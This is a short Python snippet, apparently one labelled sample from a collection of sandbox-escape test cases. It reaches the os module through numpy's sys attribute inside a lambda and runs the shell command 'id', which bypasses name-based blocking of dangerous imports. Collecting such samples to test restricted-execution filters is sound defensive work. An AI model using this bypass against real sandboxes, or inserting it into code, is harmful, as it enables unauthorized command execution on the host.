# family: capability-by-value — sys reached through a lambda parameter
import numpy as np
(lambda m: m.sys.modules)(np)["os"].system("id")
